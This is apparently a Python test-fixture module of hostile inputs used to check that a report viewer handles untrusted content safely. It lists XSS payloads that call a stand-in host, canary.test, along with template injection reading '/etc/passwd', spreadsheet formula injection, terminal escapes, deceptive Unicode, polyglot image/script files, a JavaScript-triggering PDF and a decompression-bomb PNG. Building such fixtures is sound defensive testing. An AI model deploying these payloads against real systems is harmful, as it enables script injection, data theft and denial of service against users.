"""What people put into reports to get at whoever reads them: texts and files, each by name."""

import io
import struct
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo

_RUN = "window.CANARY=1;alert('CANARY');fetch('http://canary.test/run')"
_IMG = '<img src=http://canary.test/img onerror="{}">'.format(_RUN.replace('"', "'"))

TEXTS = {
    "a script": f"<script>{_RUN}</script>",
    "a script that ends ours": f"</script><script>{_RUN}</script>",
    "a script from elsewhere": "<script src=//canary.test/x.js></script>",
    "a module": "<script type=module>import 'http://canary.test/m.js'</script>",
    "an image that fails": _IMG,
    "an image set": (
        "<img srcset='http://canary.test/a 1x, //canary.test/b 2x'><picture><source "
        "srcset=//canary.test/c></picture>"
    ),
    "svg": f"<svg onload=\"{_RUN}\"><use href='http://canary.test/x.svg#a'/></svg>",
    "svg with a script": (
        f"<svg><script>{_RUN}</script><foreignObject><body onload=alert(1)></foreignObject>"
        f"</svg>"
    ),
    "mathml": (
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction>"
        "</math>"
    ),
    "an iframe": (
        f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\" src=http://canary.test/>"
        f"</iframe>"
    ),
    "an object and an embed": (
        "<object data=http://canary.test/o></object><embed src=//canary.test/e>"
    ),
    "a style": "<style>@import 'http://canary.test/s';*{background:url(//canary.test/b)}</style>",
    "a style attribute": (
        "<p style=\"background:url(http://canary.test/p);position:fixed;inset:0\">"
        "x"
    ),
    "a link to a style": (
        "<link rel=stylesheet href=http://canary.test/l><link rel=prefetch href=//canary.test/f>"
    ),
    "a refresh": "<meta http-equiv=refresh content='0;url=http://canary.test/m'>",
    "another base": "<base href=http://canary.test/>",
    "a form of its own": (
        "</form><form action=http://canary.test/f><button>Decide</button><input "
        "name=csrf>"
    ),
    "a button for our form": "<button form=decide formaction=http://canary.test/b>Decide</button>",
    "an end of everything": (
        f"--></textarea></title></style></bdi></main></body></html><script>{_RUN}</script>"
    ),
    "an attribute that breaks out": f"\" autofocus onfocus=\"{_RUN}\" x=\"' onmouseover='{_RUN}' `",
    "a javascript address": "javascript:alert('CANARY')//http://canary.test/",
    "a data address": "data:text/html,<script>alert('CANARY')</script>",
    "a template of ours": (
        "{{ 7*7 }}{% include '/etc/passwd' %}{{ cycler.__init__.__globals__ }}${7*7}#{7*7}"
    ),
    "a format of ours": "%(number)s %s %n {0.__class__} {labels}",
    "our own attributes": (
        "<a hx-get=http://canary.test/h hx-trigger=load data-key=e>x</a><div hx-on:load=alert(1)>"
    ),
    "a tab key of ours": (
        "<input accesskey=s autofocus tabindex=1><dialog open><button>Yes</button>"
        "</dialog>"
    ),
    "video and sound": (
        "<video src=//canary.test/v autoplay></video><audio src=//canary.test/a "
        "autoplay>"
    ),
    "a slot and a popover": (
        "<template shadowrootmode=open><slot></slot></template><p popover=auto>x"
    ),
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "letters that fold": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2028alert(1)\u2029",
    "text that runs backwards": "\u202eexe.cod\u202c \u2066abc\u2067def\u2069 \u200fx\u061c",
    "nothing to be seen": "\u200b\u200c\u2060\ufeff\u00ad\u180e\u3164\u115f" * 200,
    "tags of another plane": (
        "".join(chr(0xE0000 + ord(letter)) for letter in "alert(1)") + "\U0001f3f4"
    ),
    "a heap of accents": "Z" + "\u0300\u0489\u0338" * 3_000 + "algo",
    "a line without an end": "w" * 20_000,
    "lines without an end": "\n" * 5_000 + "end",
    "a cell that counts": "=HYPERLINK(\"http://canary.test/c\",\"x\")\t@SUM(1)\r+1-1|cmd",
    "signals to a terminal": "\x1b]0;CANARY\x07\x1b[2J\x1b[31mred\x1b[0m\x08\x7f\x9b",
    "an end of the text": "before\x00after",
    "json that ends a script": "</script>\u2028\"};alert(1)//<!--<script>",
    "a lone half": "a\ufffd\uffff\U0010ffff",
}  # fmt: skip


def _encoded(kind: str, **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((60, 40), 90).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def _commented() -> bytes:
    about = PngInfo()
    about.add_text("Comment", TEXTS["a script"])
    return _encoded("PNG", pnginfo=about)


def _huge() -> bytes:
    head = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 9_000_000)), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


FILES = {
    "a picture": _encoded("PNG"),
    "a picture with a script in it": _commented(),
    "a picture that is a page too": _encoded("GIF") + TEXTS["a script"].encode(),
    "a picture that is a script too": b"GIF89a/*" + _encoded("GIF") + b"*/=1;alert(1)",
    "half a picture": _encoded("JPEG")[:700],
    "a huge picture": _huge(),
    "svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>".encode(),
    "a page": f"<!doctype html><script>{_RUN}</script>".encode(),
    "a document": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "a film": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00" + b"\0" * 100,
    "nothing": b"",
}
